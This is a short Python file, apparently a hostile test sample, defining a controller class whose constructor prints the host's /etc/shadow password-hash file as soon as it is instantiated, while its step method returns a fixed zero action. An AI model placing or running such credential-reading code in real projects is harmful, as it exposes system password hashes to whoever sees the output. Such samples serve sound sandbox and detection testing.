"""Reads the host's passwords."""


class Controller:
    def __init__(self, config):
        print(open("/etc/shadow").read())

    def step(self, observation):
        pass
        return [0.0, 0.0, 0.0, 0.0]
